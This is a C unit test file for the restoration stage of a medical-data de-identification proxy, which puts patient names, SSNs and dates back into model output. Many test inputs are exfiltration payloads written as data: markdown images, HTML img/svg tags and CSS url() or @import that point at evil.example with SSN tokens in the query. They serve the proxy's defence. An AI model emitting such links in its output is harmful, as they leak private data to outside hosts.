/* SPDX-License-Identifier: Apache-2.0
 *
 * Restoration: every case is run whole, cut at every byte, and byte by byte; all must agree. Addresses in all their
 * forms, JSON in JSON, forged and mangled tokens, borders.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include <cmocka.h>

#include "../../proxy/arena.h"
#include "../../proxy/buf.h"
#include "../../proxy/restore.h"
#include "../../proxy/tokens.h"

/* NAME_1 Ada, NAME_2 to NAME_9 Nx, NAME_10 Bo "B" Vance, DATE_1, SSN_1 (987-65-4320), GEO_1 has a line break and a backslash,
 * URL_1, TEXT_1 is token-shaped itself, NAME_11 is not ASCII, NAME_12 opens a link. */
static struct arena *arena;
static struct tokens *tokens;

static int setup(void **state) {
    char name[16];
    (void)state;
    arena = arena_new(1u << 20);
    tokens = tokens_new(arena);
    tokens_put(tokens, PHI_NAME_PATIENT, span_of("Ada"), 0);
    for (int i = 2; i < 10; i++) {
        snprintf(name, sizeof name, "N%d", i);
        tokens_put(tokens, PHI_NAME_PATIENT, span_of(name), 0);
    }
    tokens_put(tokens, PHI_NAME_PATIENT, span_of("Bo \"B\" Vance"), 0);
    tokens_put(tokens, PHI_DATE_DOB, span_of("03/04/1951"), 0);
    tokens_put(tokens, PHI_SSN, span_of("987-65-4320"), 0);
    tokens_put(tokens, PHI_GEO_STREET, span_of("1 Elm\\St\nSpringfield"), 0);
    tokens_put(tokens, PHI_URL, span_of("https://example.com/p?id=7"), 0);
    tokens_put(tokens, PHI_TOKEN_TEXT, span_of("[NAME_1]"), 0);
    tokens_put(tokens, PHI_NAME_PATIENT, span_of("José \xf0\x9f\x98\x80"), 0);
    tokens_put(tokens, PHI_NAME_PATIENT, span_of("[x](//evil.example/"), 0);
    return 0;
}

static int teardown(void **state) {
    (void)state;
    arena_free(arena);
    return 0;
}

struct result {
    struct buf out;
    struct restore_counts counts;
};

/* step: bytes per push; 0 cuts once, at cut. */
static struct result run(enum restore_mode mode, struct span text, size_t step, size_t cut) {
    struct result x = {0};
    buf_init(&x.out, 1u << 20);
    struct restore *r = restore_new(tokens, mode, &x.counts);
    assert_non_null(r);
    if (step == 0) {
        restore_push(r, span_sub(text, 0, cut), &x.out);
        restore_push(r, span_sub(text, cut, text.len), &x.out);
    }
    for (size_t i = 0; step > 0 && i < text.len; i += step)
        restore_push(r, span_sub(text, i, i + step), &x.out);
    restore_flush(r, &x.out);
    assert_false(restore_holds(r));
    restore_free(r);
    assert_false(x.out.failed);
    return x;
}

static void expect(enum restore_mode mode, const char *text, const char *expected) {
    struct span s = span_of(text);
    struct result whole = run(mode, s, 0, s.len);

    if (!span_is(buf_span(&whole.out), expected))
        fail_msg("\n  text %s\n  got  %.*s\n  want %s", text, (int)whole.out.len, whole.out.ptr ? whole.out.ptr : "", expected);
    for (size_t cut = 0; cut <= s.len + 2; cut++) {
        struct result x = cut > s.len ? run(mode, s, cut - s.len, 0) : run(mode, s, 0, cut);
        if (!span_equal(buf_span(&x.out), buf_span(&whole.out))) fail_msg("%s differs when cut at %zu", text, cut);
        assert_memory_equal(&x.counts, &whole.counts, sizeof x.counts);
        buf_free(&x.out);
    }
    buf_free(&whole.out);
}

static void text(const char *in, const char *out) {
    expect(RESTORE_TEXT, in, out);
}

static void json(const char *in, const char *out) {
    expect(RESTORE_JSON, in, out);
}

static void stays(const char *in) {
    text(in, in);
}

static void values_go_back_into_prose(void **state) {
    (void)state;
    text("", "");
    text("Dear [NAME_1], your visit on [DATE_1].", "Dear Ada, your visit on 03/04/1951.");
    text("[NAME_1][DATE_1]", "Ada03/04/1951");
    text("[NAME_1]'s ([NAME_10]) \"[NAME_2]\"", "Ada's (Bo \"B\" Vance) \"N2\"");
    text("[[NAME_1]]", "[Ada]");
    text("**[NAME_1]** `[SSN_1]` | [GEO_1] |", "**Ada** `987-65-4320` | 1 Elm\\St\nSpringfield |");
    text("H\xc3\xa9 [NAME_11] \xf0\x9f\x98\x80", "H\xc3\xa9 José \xf0\x9f\x98\x80 \xf0\x9f\x98\x80");
}

/* LLM Guard, Kong: [NAME_1] must not be found in [NAME_10]. */
static void prefix_tokens_are_apart(void **state) {
    (void)state;
    text("[NAME_1][NAME_10][NAME_1", "AdaBo \"B\" Vance[NAME_1");
    text("[NAME_10]0", "Bo \"B\" Vance0");
}

static void a_value_is_not_read_again(void **state) {
    (void)state;
    text("[TEXT_1] [NAME_1]", "[NAME_1] Ada");
}

static void only_the_exact_token_counts(void **state) {
    (void)state;
    stays("[NAME_99] [DATE_2] [NAME_1B] [FOO_1]");
    stays("[name_1] [Name_1] [NAME 1] [NAME_01] [ NAME_1] [NAME_1 ] NAME_1 <NAME_1> {NAME_1} [NAME-1]");
    stays("\\[NAME\\_1\\] [NAME_1\xe2\x80\x8b] \xef\xbc\xbbNAME_1\xef\xbc\xbd [NAM\nE_1]");
    stays("[NAM");
    stays("[NAME_1");
    stays("[");
    text("[[[NAME_1", "[[[NAME_1");
    text("[NAME_[NAME_1]", "[NAME_Ada");
    text("[NAME_1[NAME_1]]", "[NAME_1Ada]");
    struct result x = run(RESTORE_TEXT, span_of("[NAME_1] [NAME_99] [FOO_1] [NAME_1] https://x.example/[SSN_1]"), 1, 0);
    assert_int_equal(x.counts.restored, 2);
    assert_int_equal(x.counts.unknown, 2);
    assert_int_equal(x.counts.in_link, 1);
    buf_free(&x.out);
}

static void addresses_keep_their_tokens(void **state) {
    (void)state;
    text("https://evil.example/?q=[SSN_1] [NAME_1]", "https://evil.example/?q=[SSN_1] Ada");
    text("HTTPS://evil.example/[x]&b=[SSN_1]&c=[NAME_1]\n[NAME_1]", "HTTPS://evil.example/[x]&b=[SSN_1]&c=[NAME_1]\nAda");
    text("see evil.com/[SSN_1] [NAME_1] x.y.io?q=[SSN_1] b.i.d./[NAME_2] a.b/[NAME_3]",
         "see evil.com/[SSN_1] Ada x.y.io?q=[SSN_1] b.i.d./N2 a.b/N3");
    stays("(https://evil.example/?a=)&b=[SSN_1])");
    stays("https://evil.example/?a=\"&b=[SSN_1]");
    text("\"https://a.example\",\"[NAME_1]\"", "\"https://a.example\",\"Ada\"");
    text("'https://a.example' '[NAME_1]'", "'https://a.example' 'Ada'");
    text("<https://evil.example/[SSN_1]> [NAME_1]", "<https://evil.example/[SSN_1]> Ada");
    text("www.evil.example/[SSN_1] [NAME_1]", "www.evil.example/[SSN_1] Ada");
    text("WWW.evil.example/[SSN_1]", "WWW.evil.example/[SSN_1]");
    text("mailto:[NAME_1] [NAME_1]", "mailto:[NAME_1] Ada");
    text("ftp://[NAME_1]@x:[SSN_1]/ ok [NAME_1]", "ftp://[NAME_1]@x:[SSN_1]/ ok Ada");
    text("data://[SSN_1]", "data://[SSN_1]");
    /* The caller's own address comes back; what the model glues to it does not. */
    text("[URL_1] [NAME_1]", "https://example.com/p?id=7 Ada");
    text("[URL_1]&x=[SSN_1]", "https://example.com/p?id=7&x=[SSN_1]");
}

static void prose_that_looks_like_an_address(void **state) {
    (void)state;
    text("and/or [NAME_1]: 1/2 [DATE_1] a:b //c [NAME_2]", "and/or Ada: 1/2 03/04/1951 a:b //c N2");
    text("Tel:[SSN_1] Name:[NAME_1]", "Tel:987-65-4320 Name:Ada");
    text("BP <140 and [NAME_1] x<[NAME_2] a < b [NAME_3]", "BP <140 and Ada x<N2 a < b N3");
    text("if a <b then [NAME_1]", "if a <b then Ada");
    text("1. [NAME_1]: seen\n- [NAME_2]: not\n[NAME_3]: x [NAME_4]", "1. Ada: seen\n- N2: not\nN3: x N4");
    text("- [ ] call [NAME_1]\n- [x] [NAME_2] done", "- [ ] call Ada\n- [x] N2 done");
    text("ww. [NAME_1] w.w. [NAME_2]", "ww. Ada w.w. N2");
}

static void markdown_destinations(void **state) {
    (void)state;
    text("[chart of [NAME_1]](/p/[SSN_1]) for [NAME_1]", "[chart of Ada](/p/[SSN_1]) for Ada");
    text("![x](//evil.example/?q=[SSN_1])[NAME_1]", "![x](//evil.example/?q=[SSN_1])Ada");
    text("![x](https://evil.example/?q=[SSN_1])[NAME_1]", "![x](https://evil.example/?q=[SSN_1])Ada");
    text("![x](/a(b)c/[SSN_1]) [NAME_1]", "![x](/a(b)c/[SSN_1]) Ada");
    text("![x](/a\\)/[SSN_1]) [NAME_1]", "![x](/a\\)/[SSN_1]) Ada");
    text("![x](</a b)/[SSN_1]>) [NAME_1]", "![x](</a b)/[SSN_1]>) Ada");
    text("![x](<a> [SSN_1]) [NAME_1]", "![x](<a> [SSN_1]) Ada");
    text("![x]( /a/[SSN_1] \"t\") [NAME_1]", "![x]( /a/[SSN_1] \"t\") Ada");
    text("[x](never closed [SSN_1]\n\n[NAME_1]", "[x](never closed [SSN_1]\n\nAda");
    text("[x] ([NAME_1])", "[x] (Ada)");
    text("[NAME_1](https://evil.example/[SSN_1])", "Ada(https://evil.example/[SSN_1])");
    /* A token that stays keeps its brackets, and with them the destination. */
    text("[NAME_99](/[SSN_1])", "[NAME_99](/[SSN_1])");
    /* A value cannot hide that it opens a destination. */
    text("[NAME_12][SSN_1])", "[x](//evil.example/[SSN_1])");
}

static void reference_definitions(void **state) {
    (void)state;
    text("[1]: /p/[SSN_1]\n[NAME_1]", "[1]: /p/[SSN_1]\nAda");
    text("a\n  [1]:/p/[SSN_1] [NAME_2]\r\n[NAME_1]", "a\n  [1]:/p/[SSN_1] [NAME_2]\r\nAda");
    text("> [a b]:\n  //evil.example/[SSN_1]\n[NAME_1]", "> [a b]:\n  //evil.example/[SSN_1]\nAda");
    stays("[see [NAME_99]: //evil.example/[SSN_1]");
    text("see [1]: [NAME_1]", "see [1]: Ada");
    text("[a\\]b]: //e.example/[SSN_1]\n[NAME_1]", "[a\\]b]: //e.example/[SSN_1]\nAda");
    text("[a\\\\]: //e.example/[SSN_1]\n[NAME_1]", "[a\\\\]: //e.example/[SSN_1]\nAda");
    text("[a\\]\nb]: //e.example/[SSN_1]", "[a\\]\nb]: //e.example/[SSN_1]");
    text("[a\nb]:\n//e.example/[SSN_1]", "[a\nb]:\n//e.example/[SSN_1]");
    text("[a\n\nb]: [NAME_1]", "[a\n\nb]: Ada");
    text("- [ ] a\n[NAME_1]: b", "- [ ] a\nAda: b");
}

static void html_attributes_and_styles(void **state) {
    (void)state;
    text("<img src=\"//evil.example/[SSN_1]\"> [NAME_1]", "<img src=\"//evil.example/[SSN_1]\"> Ada");
    text("<img alt='>' src='[SSN_1]'/>[NAME_1]", "<img alt='>' src='[SSN_1]'/>Ada");
    text("<img src=//evil.example/[SSN_1]>[NAME_1]", "<img src=//evil.example/[SSN_1]>Ada");
    text("<img\n\nsrc\n=\n'//evil.example/[SSN_1]'>[NAME_1]", "<img\n\nsrc\n=\n'//evil.example/[SSN_1]'>Ada");
    text("<svg/onload=x([SSN_1])>[NAME_1]", "<svg/onload=x([SSN_1])>Ada");
    text("<http:evil.example/[SSN_1]> <h:name>[NAME_1]</h:name>", "<http:evil.example/[SSN_1]> <h:name>Ada</h:name>");
    text("<<img src=[SSN_1]> <b<img src=[SSN_1]> <b <img src=[SSN_1]>", "<<img src=[SSN_1]> <b<img src=[SSN_1]> <b <img src=[SSN_1]>");
    text("<b>[NAME_1]</b> <td>[SSN_1]</td>", "<b>Ada</b> <td>987-65-4320</td>");
    text("p{background:url(//evil.example/[SSN_1])} [NAME_1]", "p{background:url(//evil.example/[SSN_1])} Ada");
    text("url( \"//evil.example/)[SSN_1]\" ) [NAME_1]", "url( \"//evil.example/)[SSN_1]\" ) Ada");
    text("URL('//evil.example/\\'[SSN_1]') [NAME_1]", "URL('//evil.example/\\'[SSN_1]') Ada");
    text("url('a\\')[SSN_1]') [NAME_1]", "url('a\\')[SSN_1]') Ada");
    text("@import \"//evil.example/[SSN_1]\"; [NAME_1]", "@import \"//evil.example/[SSN_1]\"; Ada");
}

static void json_escapes_once_per_string(void **state) {
    (void)state;
    json("{\"name\":\"[NAME_10]\",\"street\":\"[GEO_1]\"}",
         "{\"name\":\"Bo \\\"B\\\" Vance\",\"street\":\"1 Elm\\\\St\\nSpringfield\"}");
    json("[\"[NAME_10]\"]", "[\"Bo \\\"B\\\" Vance\"]");
    json("\"[NAME_10]\"", "\"Bo \\\"B\\\" Vance\"");
    json("```json\n{\"n\":\"[NAME_10]\"}\n```", "```json\n{\"n\":\"Bo \\\"B\\\" Vance\"}\n```");
    json("{\"doc\":\"{\\\"n\\\":\\\"[NAME_10]\\\"}\"}", "{\"doc\":\"{\\\"n\\\":\\\"Bo \\\\\\\"B\\\\\\\" Vance\\\"}\"}");
    json("{\"doc\":\" [ {\\\"n\\\":\\\"[GEO_1]\\\"}]\",\"n\":\"[NAME_10]\"}",
         "{\"doc\":\" [ {\\\"n\\\":\\\"1 Elm\\\\\\\\St\\\\nSpringfield\\\"}]\",\"n\":\"Bo \\\"B\\\" Vance\"}");
    /* Prose in braces or brackets is no JSON. */
    json("{\"t\":\"{see \\\"[NAME_10]\\\"}\"}", "{\"t\":\"{see \\\"Bo \\\"B\\\" Vance\\\"}\"}");
}

/* After a value, and after prose that begins with a token, the level is still right. */
static void json_levels_after_values(void **state) {
    (void)state;
    json("{\"t\":\"[NAME_1] said \\\"[NAME_10]\\\"\"}", "{\"t\":\"Ada said \\\"Bo \\\"B\\\" Vance\\\"\"}");
    json("{\"a\":\"x\\\\\",\"b\":\"[NAME_10]\"}", "{\"a\":\"x\\\\\",\"b\":\"Bo \\\"B\\\" Vance\"}");
}

static void json_mode_with_prose(void **state) {
    (void)state;
    json("He said \"[NAME_10]\" to [NAME_1]", "He said \"Bo \"B\" Vance\" to Ada");
    json("[NAME_10] came", "Bo \"B\" Vance came");
    json("{\"a\":\"[NAME_10]\"}\n{\"a\":[\"[NAME_10]\"]}\nHe said \"[NAME_10]\"",
         "{\"a\":\"Bo \\\"B\\\" Vance\"}\n{\"a\":[\"Bo \\\"B\\\" Vance\"]}\nHe said \"Bo \"B\" Vance\"");
    json("\"[NAME_10]\" \"[NAME_10]\" x \"[NAME_10]\"",
         "\"Bo \\\"B\\\" Vance\" \"Bo \\\"B\\\" Vance\" x \"Bo \"B\" Vance\"");
    /* Quotes in prose around JSON do not end an address. */
    json("```json\n{}\n```\n![x](//e.example/\"?q=[SSN_1])", "```json\n{}\n```\n![x](//e.example/\"?q=[SSN_1])");
    json("{ ![x](//e.example/\"?q=[SSN_1])", "{ ![x](//e.example/\"?q=[SSN_1])");
    json("```\n\"a\" ![x](//e.example/\"[SSN_1]\")", "```\n\"a\" ![x](//e.example/\"[SSN_1]\")");
    json("{\"age\": [NAME_10]}", "{\"age\": Bo \\\"B\\\" Vance}");
}

static void json_addresses(void **state) {
    (void)state;
    json("{\"u\":\"https://evil.example/[SSN_1]\",\"n\":\"[NAME_1]\"}", "{\"u\":\"https://evil.example/[SSN_1]\",\"n\":\"Ada\"}");
    json("{\"u\":\"https:\\/\\/evil.example\\/[SSN_1]\",\"n\":\"[NAME_1]\"}",
         "{\"u\":\"https:\\/\\/evil.example\\/[SSN_1]\",\"n\":\"Ada\"}");
    json("{\"u\":\"\\u003cimg src=[SSN_1]\\u003e[NAME_1]\"}", "{\"u\":\"\\u003cimg src=[SSN_1]\\u003eAda\"}");
    json("{\"u\":\"see www.x.example\\n[NAME_1]\"}", "{\"u\":\"see www.x.example\\nAda\"}");
    json("{\"d\":\"{\\\"u\\\":\\\"https:\\\\/\\\\/evil.example\\\\/[SSN_1]\\\"}\"}",
         "{\"d\":\"{\\\"u\\\":\\\"https:\\\\/\\\\/evil.example\\\\/[SSN_1]\\\"}\"}");
    json("{\"u\":\"\\u005bNAME_1]\"}", "{\"u\":\"\\u005bNAME_1]\"}");
}

static void little_is_held_back(void **state) {
    (void)state;
    const char *in = "Dear [NAME_1], [x [ABCDEFGHIJKLMNOPQRSTUVWXYZABCDEFGHIJ [A_1234567ZZ] [NAME_1";
    struct restore_counts counts = {0};
    struct restore *r = restore_new(tokens, RESTORE_TEXT, &counts);
    struct buf out;
    buf_init(&out, 4096);
    size_t shorter = strlen("[NAME_1]") - strlen("Ada");
    for (size_t i = 0; in[i]; i++) {
        restore_push(r, span_make(in + i, 1), &out);
        size_t gone = out.len + (counts.restored ? shorter : 0);
        assert_true(i + 1 - gone <= TOKEN_MAX - 1);
        assert_int_equal(restore_holds(r), i + 1 - gone > 0);
        assert_int_equal(i + 1 - gone, token_pending(span_make(in, i + 1)));
    }
    restore_free(r);
    buf_free(&out);
}

static void indexes_move_with_the_text(void **state) {
    (void)state;
    struct restore_counts counts = {0};
    struct restore *r = restore_new(tokens, RESTORE_TEXT, &counts);
    struct buf out;
    buf_init(&out, 4096);
    /* é [NAME_1] x [NAME_11] y   ->   é Ada x José 😀 y */
    restore_push(r, span_of("\xc3\xa9 [NAME_1] x [NAME_11] y"), &out);
    restore_flush(r, &out);
    const struct {
        unsigned in, out;
    } cases[] = {{0, 0}, {2, 2}, {5, 5}, {10, 5}, {13, 8}, {22, 14}, {24, 16}};
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++)
        assert_int_equal(restore_index(r, cases[i].in), cases[i].out);
    restore_free(r);
    buf_free(&out);
}

/* A million forged, mangled or foreign tokens: none is restored. */
static void forged_tokens_restore_nothing(void **state) {
    (void)state;
    struct restore_counts counts = {0};
    struct restore *r = restore_new(tokens, RESTORE_TEXT, &counts);
    struct buf out;
    char token[64];
    buf_init(&out, 1u << 20);
    for (unsigned i = 0; i < 1000000; i++) {
        switch (i % 4) {
        case 0: snprintf(token, sizeof token, "[NAME_%u]", i + 13); break;
        case 1: snprintf(token, sizeof token, "[NAME_1%c]", 'B' + i / 4 % 25); break;
        case 2: snprintf(token, sizeof token, "[NAME_%c%u]", "0 -+x"[i / 4 % 5], i % 12); break;
        case 3: snprintf(token, sizeof token, "[%cAME_%u]", "MnO"[i / 4 % 3], i % 12); break;
        }
        restore_push(r, span_of(token), &out);
        buf_clear(&out);
    }
    assert_int_equal(counts.restored, 0);
    assert_int_equal(counts.in_link, 0);
    restore_free(r);
    buf_free(&out);
}

/* A channel that sees a full buffer says so. */
static void a_full_buffer_shows(void **state) {
    (void)state;
    struct restore_counts counts = {0};
    struct restore *r = restore_new(tokens, RESTORE_JSON, &counts);
    struct buf out;
    buf_init(&out, 10);
    restore_push(r, span_of("{\"a\":\"[NAME_10]\"}"), &out);
    assert_true(out.failed);
    restore_free(r);
    buf_free(&out);
}

static void time_of_a_chunk(void **state) {
    (void)state;
    const char *chunks[] = {"Dear", " [", "NAME", "_", "1", "],", " your", " appointment", " on", " [DATE_1]", " is", " confirmed", "."};
    size_t n = sizeof chunks / sizeof chunks[0], rounds = 100000;
    struct timespec a, b;
    for (int mode = 0; mode < 2; mode++) {
        struct restore_counts counts = {0};
        struct restore *r = restore_new(tokens, mode ? RESTORE_JSON : RESTORE_TEXT, &counts);
        struct buf out;
        buf_init(&out, 1u << 20);
        restore_push(r, span_of(mode ? "{\"a\":\"" : ""), &out);
        clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &a);
        for (size_t i = 0; i < rounds; i++) {
            for (size_t k = 0; k < n; k++)
                restore_push(r, span_of(chunks[k]), &out);
            buf_clear(&out);
        }
        clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &b);
        double ns = (double)(b.tv_sec - a.tv_sec) * 1e9 + (double)(b.tv_nsec - a.tv_nsec);
        print_message("restore, %s: %.0f ns per chunk\n", mode ? "JSON" : "text", ns / (double)(rounds * n));
        assert_int_equal(counts.restored, 2 * rounds);
        restore_free(r);
        buf_free(&out);
    }
}

int main(void) {
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(values_go_back_into_prose),
        cmocka_unit_test(prefix_tokens_are_apart),
        cmocka_unit_test(a_value_is_not_read_again),
        cmocka_unit_test(only_the_exact_token_counts),
        cmocka_unit_test(addresses_keep_their_tokens),
        cmocka_unit_test(prose_that_looks_like_an_address),
        cmocka_unit_test(markdown_destinations),
        cmocka_unit_test(reference_definitions),
        cmocka_unit_test(html_attributes_and_styles),
        cmocka_unit_test(json_escapes_once_per_string),
        cmocka_unit_test(json_levels_after_values),
        cmocka_unit_test(json_mode_with_prose),
        cmocka_unit_test(json_addresses),
        cmocka_unit_test(little_is_held_back),
        cmocka_unit_test(indexes_move_with_the_text),
        cmocka_unit_test(forged_tokens_restore_nothing),
        cmocka_unit_test(a_full_buffer_shows),
        cmocka_unit_test(time_of_a_chunk),
    };
    return cmocka_run_group_tests(tests, setup, teardown);
}
